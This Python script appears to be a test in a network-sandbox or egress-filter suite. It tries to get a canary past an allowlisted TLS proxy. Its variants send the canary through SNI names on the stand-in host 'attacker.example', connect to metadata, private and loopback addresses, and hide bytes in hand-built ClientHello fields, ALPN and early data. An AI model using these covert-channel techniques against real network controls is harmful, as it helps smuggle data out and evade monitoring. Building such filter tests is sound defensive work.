"""TLS to the wrong host or with bytes of the attacker's choosing in the hello: tls.py VARIANT"""

import os
import struct
import sys

from common import *

variant = sys.argv[1]
REQUEST = f"GET /ok/{CANARY} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode()
HARMLESS = f"GET /ok/1 HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode()


def extension(kind, body):
    return struct.pack("!HH", kind, len(body)) + body


def server_names(*names):
    entries = b"".join(b"\0" + struct.pack("!H", len(name)) + name for name in names)
    return extension(0, struct.pack("!H", len(entries)) + entries)


def hello(*more, names=(ALLOWED.encode(),), random=None, session=b""):
    """A TLS 1.2/1.3 ClientHello made by hand (RFC 8446 4.1.2)."""
    extensions = b"".join(
        [
            server_names(*names),
            extension(10, b"\0\4\0\x1d\0\x17"),
            extension(13, b"\0\6\4\3\x08\4\4\1"),
            extension(43, b"\4\3\4\3\3"),
            extension(51, b"\0\x24\0\x1d\0\x20" + os.urandom(32)),
            *more,
        ]
    )
    body = b"\3\3" + (random or os.urandom(32)) + bytes([len(session)]) + session
    body += b"\0\x08\x13\1\x13\2\xc0\x2b\xc0\x2f" + b"\1\0" + struct.pack("!H", len(extensions)) + extensions
    handshake = b"\1" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack("!H", len(handshake)) + handshake


def send_raw(data):
    with connect_name(ALLOWED) as sock:
        sock.sendall(data)
        notes.append(drain(sock)[:16].hex())


def request(server_name, alpn=None, to=None, data=REQUEST):
    with tls(to or connect_name(ALLOWED), server_name, alpn) as sock:
        sock.sendall(data)
        notes.append(drain(sock)[:200].decode("latin-1"))


VARIANTS = {
    "no-sni": lambda: request(None),
    "no-sni-elsewhere": lambda: request(None, to=connect(2, (DESTINATIONS[("any", 4)], 443))),
    "sni-other": lambda: request("sni.attacker.example"),
    "sni-below": lambda: request(f"{CANARY}.{ALLOWED}"),
    "sni-elsewhere": lambda: request(ALLOWED, to=connect(2, (DESTINATIONS[("any", 4)], 443))),
    "sni-elsewhere-v6": lambda: request(ALLOWED, to=connect(10, (DESTINATIONS[("any", 6)], 443))),
    "sni-by-address": lambda: request(ALLOWED, to=connect(2, (DESTINATIONS[("allowed", 4)], 443))),
    "sni-metadata": lambda: request(ALLOWED, to=connect(2, (DESTINATIONS[("metadata", 4)], 443))),
    "sni-private": lambda: request(ALLOWED, to=connect(2, (DESTINATIONS[("private", 4)], 443))),
    "sni-listener": lambda: request(ALLOWED, to=connect(2, ("127.0.0.1", 15001))),
    "sni-listener-v6": lambda: request(ALLOWED, to=connect(10, ("::1", 15001))),
    "sni-dns-listener": lambda: request(ALLOWED, to=connect(2, ("127.0.0.1", 15053))),
    "alpn-bytes": lambda: request(ALLOWED, ["http/1.1", CANARY], data=HARMLESS),
    "hello-random": lambda: send_raw(hello(random=BYTES.ljust(32, b"."))),
    "hello-session": lambda: send_raw(hello(session=BYTES.ljust(32, b"."))),
    "hello-extension": lambda: send_raw(hello(extension(0xFF77, BYTES))),
    "hello-padding": lambda: send_raw(hello(extension(21, BYTES))),
    "hello-two-names": lambda: send_raw(hello(names=(ALLOWED.encode(), f"{CANARY}.attacker.example".encode()))),
    "hello-nul-name": lambda: send_raw(hello(names=(ALLOWED.encode() + b"\0." + BYTES,))),
    "hello-early-data": lambda: send_raw(hello() + b"\x17\3\3" + struct.pack("!H", len(BYTES)) + BYTES),
    "hello-ech": lambda: send_raw(hello(extension(0xFE0D, b"\0\0\1\0\1\1\0\0" + struct.pack("!H", len(BYTES)) + BYTES))),
    "not-tls": lambda: send_raw(BYTES + b"\r\n"),
    "ssh-banner": lambda: send_raw(b"SSH-2.0-" + BYTES + b"\r\n"),
}
attempt(variant, VARIANTS[variant])
finish()
